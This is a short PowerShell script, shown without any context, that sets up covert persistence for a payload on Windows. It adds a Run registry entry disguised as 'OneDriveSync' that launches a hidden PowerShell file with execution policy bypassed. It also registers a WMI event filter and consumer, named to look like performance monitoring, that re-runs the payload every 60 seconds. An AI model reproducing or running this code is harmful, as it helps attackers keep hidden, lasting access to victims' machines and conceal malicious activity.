$payload = "$env:APPDATA\Microsoft\Crypto\svchelper.ps1"
$cmd = "powershell.exe -w hidden -nop -ep bypass -f `"$payload`""

$hkcu = [Microsoft.Win32.Registry]::CurrentUser
$run = $hkcu.OpenSubKey('Software\Microsoft\Windows\CurrentVersion\Run', $true)
$run.SetValue('OneDriveSync', $cmd)
$run.Close()

$filterArgs = @{
    Name           = 'SysPerfFilter'
    EventNamespace = 'root\cimv2'
    QueryLanguage  = 'WQL'
    Query          = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"
}
$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments $filterArgs
$consumer = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{
    Name                = 'SysPerfConsumer'
    CommandLineTemplate = $cmd
}
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $consumer } | Out-Null
